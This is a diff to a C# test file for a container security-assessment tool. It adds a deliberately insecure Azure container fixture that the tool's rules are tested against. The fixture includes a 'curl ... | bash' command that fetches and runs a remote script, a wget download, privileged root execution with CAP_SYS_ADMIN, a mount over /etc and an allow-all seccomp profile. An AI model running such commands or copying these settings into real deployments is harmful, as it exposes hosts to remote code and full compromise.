@@ -1,9 +1,13 @@
 using System.Text.Json.Nodes;
 using AciSecMon.Assessment.Estate;
 using AciSecMon.Assessment.Rules;
+using AciSecMon.Assessment.Rules.Data;
+using AciSecMon.Assessment.Rules.Governance;
 using AciSecMon.Assessment.Rules.Identity;
 using AciSecMon.Assessment.Rules.Images;
+using AciSecMon.Assessment.Rules.Logging;
 using AciSecMon.Assessment.Rules.Network;
+using AciSecMon.Assessment.Rules.Runtime;
 using AciSecMon.Assessment.Tests.Support;
 using CsCheck;
 
@@ -14,7 +18,11 @@ namespace AciSecMon.Assessment.Tests.Rules;
 /// </summary>
 public sealed class SoundnessTests
 {
-    private static readonly Rule[] Rules = [.. NetworkRules.All, .. IdentityRules.All, .. ImageRules.All];
+    private static readonly Rule[] Rules =
+    [
+        .. NetworkRules.All, .. IdentityRules.All, .. ImageRules.All, .. RuntimeRules.All, .. DataRules.All,
+        .. GovernanceRules.All.Where(static rule => rule is not TemplateRule), new LegacyAgentRule(),
+    ];
 
     /// <summary>Values that belong almost nowhere.</summary>
     private static readonly string[] Junk =
@@ -41,6 +49,20 @@ public sealed class SoundnessTests
             "initContainers": [ { "name": "i", "properties": { "image": "c.azurecr.io/i:latest" } } ]
             """,
             """ "type": "UserAssigned", "userAssignedIdentities": { "/i/a": {} } """),
+        Parse(
+            """
+            "sku": "Confidential", "restartPolicy": "Always", "osType": "Linux", "ipAddress": { "type": "Public", "ports": [ { "port": 443, "protocol": "TCP" } ] },
+            "encryptionProperties": { "vaultBaseUrl": "https://v.vault.azure.net/", "keyName": "k" }, "confidentialComputeProperties": { "ccePolicy": "cGFja2FnZSBwb2xpY3kKY3JlYXRlX2NvbnRhaW5lciA6PSB7ImFsbG93ZWQiOiB0cnVlfQphbGxvd19kdW1wX3N0YWNrcyA6PSB0cnVlCg==" },
+            "diagnostics": { "logAnalytics": { "workspaceId": "w", "logType": "ContainerInsights" } },
+            "volumes": [ { "name": "s", "azureFile": { "shareName": "s", "storageAccountName": "a" } }, { "name": "g", "gitRepo": { "repository": "http://example.com/r", "revision": "main" } }, { "name": "k", "secret": { "tls.key": "a2V5" } } ],
+            "containers": [
+              { "name": "a", "properties": { "image": "c.azurecr.io/a:1", "command": [ "sh", "-c", "curl -sSL https://example.com/i.sh | bash && sleep infinity" ],
+                "volumeMounts": [ { "name": "s", "mountPath": "/etc" } ],
+                "securityContext": { "privileged": true, "allowPrivilegeEscalation": true, "runAsUser": 0, "capabilities": { "add": [ "CAP_SYS_ADMIN" ], "drop": [ "KILL" ] }, "seccompProfile": "eyJkZWZhdWx0QWN0aW9uIjoiU0NNUF9BQ1RfQUxMT1cifQ==" } } },
+              { "name": "b", "properties": { "image": "adminer:4", "command": [ "echo", "hello" ], "securityContext": { "runAsUser": 1000 } } } ],
+            "initContainers": [ { "name": "i", "properties": { "image": "alpine:3", "command": [ "wget", "https://example.com/x" ], "securityContext": { "runAsUser": 0 } } } ]
+            """,
+            """ "type": "SystemAssigned" """),
     ];
 
     [Fact]
